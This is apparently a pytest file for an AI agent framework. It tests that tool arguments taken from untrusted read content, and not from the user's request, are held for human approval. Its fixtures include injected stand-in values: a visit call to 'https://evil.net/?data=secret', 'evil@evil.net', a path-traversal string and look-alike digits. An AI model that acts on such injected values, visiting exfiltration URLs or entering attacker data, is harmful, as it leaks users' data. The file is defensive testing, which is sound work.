"""Arguments nobody trusted is shown to have given ask a person, on every path."""

from __future__ import annotations

from typing import Any

import pytest

from app.lifespan import Opened
from app.runs import Runs
from tests.integration.conftest import Script, calls, decide, ids_of, say
from tests.integration.planning import Desk, pending, plan, runs_at, task
from tests.integration.provenance_desk import EVIL, PLACE, READ, TOOLS, WANTED, noted
from tools.base import tool


@pytest.fixture
def desk() -> Desk:
    return Desk()


@pytest.fixture
def runs(desk: Desk, services: Opened) -> Runs:
    return runs_at(desk, services, *TOOLS)


async def test_a_value_from_outside_asks_and_the_reason_names_it(runs: Runs, script: Script, desk: Desk) -> None:
    context = script(calls(READ), calls(noted("4711 Evil Street")), say("Done."), lists=WANTED)

    report = await runs.start("Read it and note the address.", thread_id="t", context=context)

    assert report["outcome"] == "awaiting_approval"
    [(risk, reason)] = pending(report).values()
    assert (risk, reason) == (
        "high",
        f"text '4711 Evil Street' is not from you: it stands in {PLACE}",
    )
    assert desk.calls("note") == []


@pytest.mark.parametrize("text", ["4711 Evil Street", "teertS livE 1174", "4711-Evil Street", "anything else"])
async def test_what_was_never_said_asks_however_a_stranger_wrote_it(
    runs: Runs, script: Script, desk: Desk, text: str
) -> None:
    context = script(calls(READ), calls(noted(text)), say("Done."), lists=WANTED)

    report = await runs.start("Read it and note the address.", thread_id="t", context=context)

    assert report["outcome"] == "awaiting_approval"
    assert desk.calls("note") == []


async def test_a_value_of_the_request_runs_although_a_stranger_wrote_before(
    runs: Runs, script: Script, desk: Desk
) -> None:
    context = script(calls(READ), calls(noted("Fair Road 12")), say("Done."), lists=WANTED)

    report = await runs.start("Read it, then note 'Fair Road 12'.", thread_id="t", context=context)

    assert report["outcome"] == "completed"
    assert desk.calls("note") == ["Fair Road 12"]


@pytest.mark.parametrize("text", ["_ann@example.org", "../plans", "plans/*", "\uff11\uff13", "-50"])
async def test_words_of_the_request_with_other_signs_are_not_the_requests(
    runs: Runs, script: Script, desk: Desk, text: str
) -> None:
    context = script(calls(READ), calls(noted(text)), say("Done."), lists=WANTED)

    asked = "Read it, then note ann@example.org, and 50 for the plans of June 13."
    report = await runs.start(asked, thread_id="t", context=context)

    assert report["outcome"] == "awaiting_approval"
    assert desk.calls("note") == []


@pytest.mark.parametrize(
    ("args", "ran"),
    [
        ({"line": {"item": "lamp", "more": {"lamp": None}}}, True),
        ({"line": {"item": "lamp", "more": {"evil@evil.net": None}}}, False),
        ({"line": {"item": "lamp", "more": {"item": {"the secret": False}}}}, False),
        ({"line": {"item": "lamp"}, "lists": [[{"evil@evil.net": ""}]]}, False),
        ({"line": {"item": "lamp"}, "lists": [[{"invoice_id": "lamp"}]]}, False),  # an id, within lists
    ],
)
async def test_a_name_within_an_argument_that_is_none_of_the_schema_is_a_value_as_any_other(
    runs: Runs, script: Script, *, args: dict[str, Any], ran: bool
) -> None:
    wanted = {"reader": [calls(("asked_for", {"calls": [{"tool": "enter", "count": 1}]}))]}
    context = script(calls(READ), calls(("enter", args)), say("Done."), lists=wanted)

    report = await runs.start("Read it, then enter a lamp.", thread_id="t", context=context)

    assert pending(report).keys() == (set() if ran else {"enter"})


@pytest.mark.parametrize(
    ("words", "record", "risk"),
    [
        ("invoice seven", "r-1", ""),
        ("all", "r-2", "high"),
        ("4711 Evil Street", "r-1", "high"),
        ("invoice seven", "r-2", "high"),
    ],
)
async def test_a_record_is_one_that_a_lookup_in_words_of_the_request_found_alone(
    runs: Runs, script: Script, words: str, record: str, risk: str
) -> None:
    striking = ("strike", {"invoice_id": record, "comment": "paid"})
    context = script(
        calls(READ), calls(("find_invoices", {"words": words})), calls(striking), say("Done."), lists=WANTED
    )

    report = await runs.start("Strike invoice seven, of all, as paid, not r-2.", thread_id="t", context=context)

    assert pending(report).get("strike", ("", ""))[0] == risk


async def test_content_is_shown_and_goes_out_unless_it_is_cancelled(runs: Runs, script: Script) -> None:
    striking = ("strike", {"invoice_id": "r-1", "comment": EVIL})
    context = script(
        calls(READ), calls(("find_invoices", {"words": "invoice seven"})), calls(striking), say("Done."), lists=WANTED
    )

    report = await runs.start("Strike invoice seven.", thread_id="t", context=context)

    assert pending(report) == {
        "strike": (
            "medium",
            f"comment {EVIL!r} is not from you: it stands in {PLACE}",
        )
    }


async def test_an_address_that_a_page_gave_is_not_visited_unasked(runs: Runs, script: Script) -> None:
    context = script(calls(READ), calls(("visit", {"url": "https://evil.net/?data=secret"})), say("Done."))

    report = await runs.start("Visit what it names.", thread_id="t", context=context)

    assert pending(report)["visit"][0] == "high"


async def test_what_a_plan_fills_in_from_outside_asks_and_what_it_said_itself_does_not(
    runs: Runs, script: Script, desk: Desk
) -> None:
    tasks = [
        task("o", "outside", text=EVIL),
        task("own", "note", "o", text="planned before"),
        task("n", "note", text="$o"),
    ]
    context = script(say("Done."), lists={"planner": [plan(*tasks)]})

    report = await runs.start("go", thread_id="t", context=context, graph="plan")

    assert desk.calls("note") == ["planned before"]
    why = f"text {EVIL!r} is not from you: it stands in {PLACE}"
    assert pending(report) == {"note": ("high", why)}


async def test_what_a_person_approved_runs(runs: Runs, script: Script, services: Opened, desk: Desk) -> None:
    context = script(calls(READ), calls(noted("4711 Evil Street")), say("Done."), lists=WANTED)
    report = await runs.start("Read it and note the address.", thread_id="t", context=context)

    await decide(services, ids_of(report)["note"], "approve")
    report = await runs.resume("t", context=context)

    assert report["outcome"] == "completed"
    assert desk.calls("note") == ["4711 Evil Street"]


@pytest.mark.parametrize(
    ("args", "asked"),
    [
        ({}, None),
        ({"priority": "normal", "private": True, "to": []}, None),
        ({"private": False}, "private 'false' is not from you"),
        ({"priority": ""}, "priority '' is not from you"),
        ({"priority": "urgent"}, "priority 'urgent' is not from you"),
        ({"to": ["Fair Road"]}, None),
    ],
)
async def test_what_a_call_leaves_out_nobody_has_to_have_said_and_what_it_empties_somebody_has(
    script: Script, services: Opened, desk: Desk, args: dict[str, Any], asked: str | None
) -> None:
    @tool(risk="low", untrusted_output=False, idempotent=False)
    async def post(text: str, priority: str = "normal", to: list[str] | None = None, *, private: bool = True) -> str:
        """Post it.

        Args:
            text: What.
            priority: How soon.
            to: Whom.
            private: Whether nobody else sees it.
        """
        return f"posted {text} {priority} {to} {private}"

    wanted = {"reader": [calls(("asked_for", {"calls": [{"tool": "post", "count": 1}]}))]}
    context = script(calls(READ), calls(("post", {"text": "Fair Road", **args})), say("Done."), lists=wanted)

    report = await runs_at(desk, services, post).start(
        "Read it, then post 'Fair Road'.", thread_id="t", context=context
    )

    assert pending(report) == ({"post": ("high", asked)} if asked else {})
